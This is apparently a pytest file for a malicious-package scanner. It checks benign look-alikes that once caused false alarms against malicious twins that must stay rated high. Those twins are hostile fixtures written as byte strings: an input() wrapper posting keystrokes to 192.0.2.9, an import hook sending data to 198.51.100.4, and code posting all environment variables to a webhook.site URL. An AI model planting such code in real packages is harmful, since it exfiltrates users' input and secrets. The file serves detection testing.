"""Shapes of popular releases that cried wolf on the tune-only popular corpora, read as what
they are (no project names), each beside its malicious twin that must stay high:

* a ``setup.py`` template deep inside a package (pip runs only the one at the top);
* an archive in a test-fixtures folder of a vendored archive, too deep to open;
* a built-in replaced by a wrapper that passes every call through to the original;
* a debug log opened at import behind the package's own debug variable.
"""

from __future__ import annotations

from app.core.archive import Limits, open_artifact
from app.core.capabilities.scan import scan_artifact
from tests.core.archive.fixtures import compress, make_sdist, make_wheel, tar_bytes

HIGH = ("high", "critical")


def _wheel(tmp_path, files, name="gizmo"):
    return scan_artifact(open_artifact(make_wheel(tmp_path, name=name, files=files)))


def _ids(res) -> set[str]:
    return {t.id for t in res.threats if t.severity in HIGH}


SETUP_TEMPLATE = b"""import os
from setuptools import setup

def main(builddir):
    fp = os.popen("xcode-select -print-path", "r")
    root = fp.read().strip()
    os.system("cc -o " + os.path.join(builddir, "main") + " main.c -I" + root)

main("build")
setup(name="template")
"""


def test_a_setup_py_template_inside_a_package_is_not_an_install_place(tmp_path):
    """An app template a build tool copies out (``gizmo/apptemplate/setup.py``): pip never
    runs it, so its code is judged as a module's, not as install-time code."""
    res = _wheel(
        tmp_path,
        {"gizmo/__init__.py": b"", "gizmo/apptemplate/setup.py": SETUP_TEMPLATE},
    )
    assert any(h.path == "gizmo/apptemplate/setup.py" for h in res.findings)  # still shown
    assert "place.install_time" not in _ids(res)
    assert res.risk.level not in HIGH


def test_the_same_code_in_the_setup_py_pip_runs_stays_an_install_place(tmp_path):
    sdist = make_sdist(tmp_path, name="gizmo", files={"setup.py": SETUP_TEMPLATE})
    res = scan_artifact(open_artifact(sdist))
    assert "place.install_time" in _ids(res)
    assert res.risk.level in HIGH


# An archive inside a nested archive is opened from memory when its bytes were kept: these
# limits keep none, so the fixture archive below stays unopened (as a large one would).
KEEP_NO_BINARY = Limits(max_kept_binary_bytes=16)


def _vendored(fixture_dir: str) -> bytes:
    """A gzip tar (vendored build scripts) holding an archive too deep (and, under
    :data:`KEEP_NO_BINARY`, too large) to open."""
    inner = compress(tar_bytes([("pkg-1.0/run.sh", b"echo hi\n")]), "gz")
    return compress(
        tar_bytes(
            [
                ("build-tool/bin/build", b"#!/bin/sh\necho build\n"),
                (f"build-tool/{fixture_dir}/pkg-1.0.tar.gz", inner),
            ]
        ),
        "gz",
    )


def _unopened(tmp_path, fixture_dir: str, init: bytes = b""):
    files = {"gizmo/__init__.py": init, "gizmo/resources/build-tool.tar.gz": _vendored(fixture_dir)}
    wheel = make_wheel(tmp_path, name="gizmo", files=files)
    return scan_artifact(open_artifact(wheel, KEEP_NO_BINARY))


def test_an_unopened_archive_in_a_test_fixtures_folder_is_shown_at_medium(tmp_path):
    res = _unopened(tmp_path, "test/fixtures")
    unread = [h for h in res.findings if h.capability == "scan.unread"]
    assert unread, "the unopened archive must still be listed as not reviewed"
    assert all(h.severity == "medium" for h in unread)
    assert "disguise.unread" not in _ids(res)
    assert res.risk.level not in HIGH


UNPACKS_IT = b"""import os, tarfile
here = os.path.dirname(__file__)
tarfile.open(os.path.join(here, "resources", "build-tool.tar.gz")).extractall(here)
"""


def test_an_unopened_archive_outside_tests_stays_unread_high(tmp_path):
    """Outside a test folder, with code that unpacks it (fp7: an unreadable archive no code
    names is medium, see test_popular_false_alarm_classes_4)."""
    res = _unopened(tmp_path, "payload", UNPACKS_IT)
    assert "disguise.unread" in _ids(res)
    assert res.risk.level in HIGH


IMPORT_TRACKER = b"""import builtins
import sys

_seen = {}

def memorise(mod):
    _seen[mod.__name__] = sorted(vars(mod))

def _imp(*args, **kwds):
    before = set(sys.modules)
    mod = __import__(*args, **kwds)
    for name in set(sys.modules) - before:
        memorise(sys.modules[name])
    return mod

builtins.__import__ = _imp
"""

INPUT_STEALER = b"""import builtins
import urllib.request

_orig = builtins.input

def _input(*args, **kwargs):
    answer = _orig(*args, **kwargs)
    urllib.request.urlopen("http://192.0.2.9/k", data=answer.encode())
    return answer

builtins.input = _input
"""

SWAPPER = b"""import builtins

def _imp(name, *args, **kwds):
    return None

builtins.__import__ = _imp
"""


def test_a_builtin_wrapped_by_a_pass_through_is_information(tmp_path):
    """An import tracker: every argument handed on to the original, its result returned."""
    res = _wheel(tmp_path, {"gizmo/__init__.py": b"", "gizmo/_diff.py": IMPORT_TRACKER})
    patch = [h for h in res.findings if h.rule == "py.builtins_patch"]
    assert patch and patch[0].severity == "medium"
    assert "passing each call through" in patch[0].explanation
    assert res.risk.level not in HIGH


def test_a_builtin_wrapper_that_sends_what_it_sees_stays_high(tmp_path):
    res = _wheel(tmp_path, {"gizmo/__init__.py": b"", "gizmo/_hook.py": INPUT_STEALER})
    patch = [h for h in res.findings if h.rule == "py.builtins_patch"]
    assert patch and patch[0].severity in HIGH
    assert res.risk.level in HIGH


def test_a_builtin_replaced_by_a_function_that_answers_for_it_stays_high(tmp_path):
    res = _wheel(tmp_path, {"gizmo/__init__.py": b"", "gizmo/_swap.py": SWAPPER})
    assert "disguise.obfuscation" in _ids(res)
    assert res.risk.level in HIGH


DEBUG_LOG = b"""import os
import sys
import tempfile

DEBUG = os.environ.get("TOOL_DEBUG")
if DEBUG == "2":
    def trace(*msg):
        sys.stderr.write(" ".join(map(str, msg)) + "\\n")
elif DEBUG:
    fn = os.path.join(tempfile.gettempdir(), "tool-debug-%d" % os.getpid())
    debugfile = open("/tmp/tool-debug.log", "w")

    def trace(*msg):
        debugfile.write(" ".join(map(str, msg)) + "\\n")
else:
    def trace(*msg):
        pass
"""


def test_a_debug_log_behind_the_packages_debug_variable_is_not_an_import_time_act(tmp_path):
    res = _wheel(tmp_path, {"gizmo/__init__.py": b"", "gizmo/gateway.py": DEBUG_LOG})
    writes = [h for h in res.findings if h.capability == "fs.write_outside"]
    assert writes, "the write is still shown"
    assert all(h.place != "import" for h in writes)
    assert "place.import_time" not in _ids(res)
    assert res.risk.level not in HIGH


def test_a_write_at_import_behind_a_variable_every_machine_sets_stays_an_import_time_act(
    tmp_path,
):
    """Testing ``APPDATA`` or ``not CI`` aims or hides a payload; neither is an opt-in."""
    for test in (b'os.environ.get("APPDATA")', b'not os.getenv("CI")'):
        body = DEBUG_LOG.replace(b"elif DEBUG:", b"elif " + test + b":")
        res = _wheel(tmp_path, {"gizmo/__init__.py": b"", "gizmo/gateway.py": body}, name="gizmo")
        assert "place.import_time" in _ids(res), test
        assert res.risk.level in HIGH


def test_a_pass_through_wrapper_that_changes_an_argument_stays_high(tmp_path):
    body = IMPORT_TRACKER.replace(
        b"mod = __import__(*args, **kwds)", b"mod = __import__(*args[1:], **kwds)"
    )
    res = _wheel(tmp_path, {"gizmo/__init__.py": b"", "gizmo/_diff.py": body})
    assert "disguise.obfuscation" in _ids(res)


def test_a_pass_through_whose_helper_sends_data_out_stays_high(tmp_path):
    """The wrapper forwards unchanged, but a module function it calls reaches the network."""
    body = IMPORT_TRACKER.replace(
        b"    _seen[mod.__name__] = sorted(vars(mod))\n",
        b"    import urllib.request\n"
        b"    urllib.request.urlopen('http://198.51.100.4/m', data=mod.__name__.encode())\n",
    )
    res = _wheel(tmp_path, {"gizmo/__init__.py": b"", "gizmo/_diff.py": body})
    assert "disguise.obfuscation" in _ids(res)
    assert res.risk.level in HIGH


PLUGIN_DOCS = b'''from gizmo.module_utils import GizmoModule

DOCUMENTATION = r"""
module: notify
short_description: Send a test notification
options:
  url:
    description: Where the notification goes, for instance https://webhook.site/your-uuid.
  config:
    description: Credentials file, by default ~/.docker/config.json.
"""

EXAMPLES = r"""
- name: Ping a request catcher
  gizmo.notify:
    url: https://webhook.site/2f9b7a5c-0000-4000-8000-000000000000
    hook: https://hooks.slack.com/services/xxx
"""


def main():
    module = GizmoModule(argument_spec={"url": {"type": "str"}})
    module.exit_json(changed=False)
'''


def test_an_endpoint_in_a_plugins_documentation_constants_is_no_threat(tmp_path):
    """DOCUMENTATION / EXAMPLES text read by a documentation tool, not an address in use."""
    res = _wheel(
        tmp_path,
        {"gizmo/__init__.py": b"", "gizmo/module_utils.py": b"", "gizmo/notify.py": PLUGIN_DOCS},
    )
    ends = [h for h in res.findings if h.capability == "net.exfil_endpoint"]
    assert ends and all(h.severity == "low" for h in ends)  # still shown
    assert not _ids(res)
    assert res.risk.level not in HIGH


def test_the_same_endpoint_kept_in_a_variable_and_used_stays_high(tmp_path):
    stealer = (
        b"import os, urllib.request\n"
        b'EXAMPLES = "https://webhook.site/2f9b7a5c-0000-4000-8000-000000000000"\n'
        b'URL = """https://webhook.site/2f9b7a5c-0000-4000-8000-000000000000"""\n'
        b"urllib.request.urlopen(URL, data=repr(dict(os.environ)).encode())\n"
    )
    res = _wheel(tmp_path, {"gizmo/__init__.py": stealer})
    assert _ids(res) & {"chain.exfiltration", "chain.exfil_endpoint"}
    assert res.risk.level in HIGH
